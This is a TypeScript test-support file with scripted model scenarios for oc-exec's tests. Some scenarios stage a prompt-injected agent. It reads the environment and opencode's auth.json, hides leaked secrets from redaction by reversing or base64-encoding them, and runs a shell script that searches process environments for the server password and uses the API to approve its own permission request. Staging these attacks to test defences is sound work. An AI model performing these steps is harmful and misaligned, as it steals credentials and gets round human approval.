// The scripted model's scenarios that only oc-exec's own tests play: attacks, probes, gates and
// failures a test stages. The product's scenarios (docs/usage.md, --rehearse) stay in
// src/domain/scripted/model-server.ts; any other scenario falls through to them.
import {
  type ChatMessage,
  type ChatRequest,
  messageText,
  OVERLOADED,
  type RecordedRequest,
  type Reply,
  scriptedReply,
  scriptTurn,
  verifyFix,
} from "../../src/domain/scripted/model-server.js";

/** The tests' scripts first, then the product's: what every test's model server plays. */
export function testReply(body: ChatRequest, seen: readonly RecordedRequest[] = []): Reply {
  const { scenario, results, done, text, calls } = scriptTurn(body, seen);
  switch (scenario) {
    case "overloaded":
      // The primary model stays overloaded; any other model answers (what --fallback-model is for).
      return body.model === "fake-model" ? OVERLOADED : { kind: "text", text: `Answered by ${body.model}.` };
    case "echo-length":
      // Proves the whole prompt arrived: answers with its length in characters and its last 20 chars.
      return { kind: "text", text: `received ${text.length} chars ending ${JSON.stringify(text.slice(-20))}` };
    case "verify-fix-stall":
      // As verify-fix, but the first request of the repair (the second of the turn) never answers:
      // a transient failure of the repair itself, for --retry to get past.
      return calls === 2 ? { kind: "hang" } : verifyFix(body);
    case "env-probe":
      // The environment the agent's commands get and opencode's key store as they see it, written to
      // a file: what reached them and what did not.
      return done
        ? { kind: "text", text: "Wrote probe-env.txt." }
        : {
            kind: "tool",
            calls: [
              {
                name: "bash",
                args: {
                  // opencode's key store too, the file `opencode auth login` writes.
                  command:
                    'd=$XDG_DATA_HOME; [ -n "$d" ] || d=$HOME/.local/share; { env | sort; cat "$d/opencode/auth.json" 2>/dev/null; } > probe-env.txt',
                  description: "Probe",
                },
              },
            ],
          };
    case "bash-write":
      // The work done by a command, not by a write tool: what a formatter or `eslint --fix` does.
      return done
        ? { kind: "text", text: "Fixed it with a command." }
        : { kind: "tool", calls: [{ name: "bash", args: { command: "echo fixed > fixed.txt", description: "Fix" } }] };
    case "unavailable-tool":
      // A model that calls a tool the agent does not offer (edit, where the config denies it), gets
      // opencode's `invalid` tool back, then does the work with bash and answers.
      return results.length === 0
        ? {
            kind: "tool",
            calls: [{ name: "edit", args: { filePath: "fixed.txt", oldString: "", newString: "fixed" } }],
          }
        : results.length === 1
          ? { kind: "tool", calls: [{ name: "bash", args: { command: "echo fixed > fixed.txt", description: "Fix" } }] }
          : { kind: "text", text: "Fixed it with bash." };
    case "read-outside":
      return done
        ? { kind: "text", text: "Could not read it." }
        : { kind: "tool", calls: [{ name: "read", args: { filePath: "/etc/hostname" } }] };
    case "sleep-tool":
      return done
        ? { kind: "text", text: "Slept." }
        : {
            kind: "tool",
            calls: [
              { name: "bash", args: { command: "sleep 300", description: "Sleep a long time", timeout: 600000 } },
            ],
          };
    case "attack": {
      // A prompt-injected agent running the command the test gives it, base64 in `script=` (so any
      // shell text survives the prompt), then answering with `answer=` (base64) when given: the
      // attack tests' own payloads, one bash call each.
      const script = /script=([A-Za-z0-9+/=]+)/.exec(text)?.[1];
      const answer = /answer=([A-Za-z0-9+/=]+)/.exec(text)?.[1];
      const decode = (b64: string) => Buffer.from(b64, "base64").toString("utf8");
      return done || !script
        ? { kind: "text", text: answer ? leakBack(decode(answer), results) : "Attack done." }
        : { kind: "tool", calls: [{ name: "bash", args: { command: decode(script), description: "Attack" } }] };
    }
    case "no-such-model":
      // A provider that does not serve the model asked for, and says so quoting its name, as OpenAI's
      // `model_not_found` does: what a tool can make a provider send back.
      return {
        kind: "http",
        status: 404,
        body: {
          error: {
            message: `The model \`${body.model}\` does not exist or you do not have access to it.`,
            type: "invalid_request_error",
            param: null,
            code: "model_not_found",
          },
        },
      };
    case "self-approve":
      // A prompt-injected agent on a server: it looks for the server's password and, with what it
      // found, uses the server's API (`api=HOST:PORT` in the prompt) to approve a permission request.
      return done
        ? { kind: "text", text: "Tried the server's API." }
        : {
            kind: "tool",
            calls: [{ name: "bash", args: { command: selfApproveScript(text), description: "Self-approve" } }],
          };
    case "question":
      // The question tool asks the user; in a headless turn nobody answers, and the model goes on.
      return done
        ? { kind: "text", text: "Nobody answered; I picked the default." }
        : {
            kind: "tool",
            calls: [
              {
                name: "question",
                args: {
                  questions: [
                    {
                      question: "Which color should the button be?",
                      header: "Color",
                      options: [
                        { label: "red", description: "Red" },
                        { label: "blue", description: "Blue" },
                      ],
                    },
                  ],
                },
              },
            ],
          };
    case "gated": {
      // Answers only once the file named by `gate:PATH` exists: a test decides when a turn ends,
      // so what it watches in between is not a race against the clock.
      const gate = /gate:(\S+)/.exec(text)?.[1];
      return { kind: "text", text: "The gate opened.", ...(gate ? { until: gate } : {}) };
    }
    default:
      return scriptedReply(body, seen);
  }
}

/**
 * An attacking model's answer, with what its tool printed after `LEAK:` put back in: `{leak}` as
 * it came, `{leak:reversed}` and `{leak:base64}` transformed, as a model that saw a secret in its
 * context would write it to get it past redaction.
 */
function leakBack(answer: string, results: ChatMessage[]): string {
  const leak = /LEAK:(\S+)/.exec(results.map((m) => messageText(m.content)).join("\n"))?.[1] ?? "";
  return answer
    .replaceAll("{leak}", leak)
    .replaceAll("{leak:reversed}", [...leak].reverse().join(""))
    .replaceAll("{leak:base64}", Buffer.from(leak, "utf8").toString("base64"));
}

/**
 * The `self-approve` scenario's command. It looks for the server's password in its environment, in
 * every process's environment, and checks whether opencode's memory is open to it; then, with what
 * it found, it lists the server's sessions and makes a session of its own whose bash calls need
 * approval, prompts it, approves the request that comes and waits for the approved command to run.
 */
function selfApproveScript(prompt: string): string {
  const api = `http://${/api=([\w.-]+:\d+)/.exec(prompt)?.[1] ?? "127.0.0.1:4096"}`;
  const json = "-H 'content-type: application/json'";
  return [
    `api=${api}; q="directory=$PWD"`,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
    'pw="${OPENCODE_SERVER_PASSWORD:-}"; from=environment',
    `if [ -z "$pw" ]; then for f in /proc/[0-9]*/environ; do v=$({ tr '\\0' '\\n' < "$f"; } 2>/dev/null | sed -n 's/^OPENCODE_SERVER_PASSWORD=//p' | head -1); if [ -n "$v" ]; then pw=$v; from=$f; break; fi; done; fi`,
    'if [ -n "$pw" ]; then echo "found the password in $from"; else echo "no password found"; fi',
    `mem="not found"; for d in /proc/[0-9]*; do if { tr '\\0' ' ' < "$d/cmdline"; } 2>/dev/null | grep -Eq '^[^ ]*opencode[^ ]* serve '; then if ( exec 3< "$d/mem" ) 2>/dev/null; then mem=readable; else mem=refused; fi; break; fi; done; echo "opencode memory: $mem"`,
    `code() { curl -s --noproxy "*" -o /dev/null -w '%{http_code}' -m 5 -u "opencode:$pw" "$@"; }`,
    'echo "api sessions: HTTP $(code "$api/session?$q")"',
    `sid=$(curl -s --noproxy "*" -m 5 -u "opencode:$pw" ${json} -d '{"title":"self-approve","permission":[{"permission":"bash","pattern":"*","action":"ask"}]}' "$api/session?$q" | grep -o '"id":"[^"]*"' | head -1 | cut -d'"' -f4)`,
    'if [ -z "$sid" ]; then echo "approve: no session of its own"; else',
    `  curl -s --noproxy "*" -o /dev/null -m 5 -u "opencode:$pw" ${json} -d '{"parts":[{"type":"text","text":"scenario:tool"}]}' "$api/session/$sid/prompt_async?$q"`,
    `  rid=""; for i in $(seq 100); do rid=$(curl -s --noproxy "*" -m 5 -u "opencode:$pw" "$api/permission?$q" | grep -o '"id":"[^"]*"' | head -1 | cut -d'"' -f4); [ -n "$rid" ] && break; sleep 0.2; done`,
    '  if [ -z "$rid" ]; then echo "approve: nothing asked"; else',
    `    echo "approve: HTTP $(code ${json} -d '{"reply":"once"}' "$api/permission/$rid/reply?$q")"`,
    `    ran=no; for i in $(seq 100); do if curl -s --noproxy "*" -m 5 -u "opencode:$pw" "$api/session/$sid/message?$q" | grep -q '"status":"completed"'; then ran=yes; break; fi; sleep 0.2; done`,
    '    echo "approved command ran: $ran"',
    "  fi",
    "fi",
  ].join("\n");
}
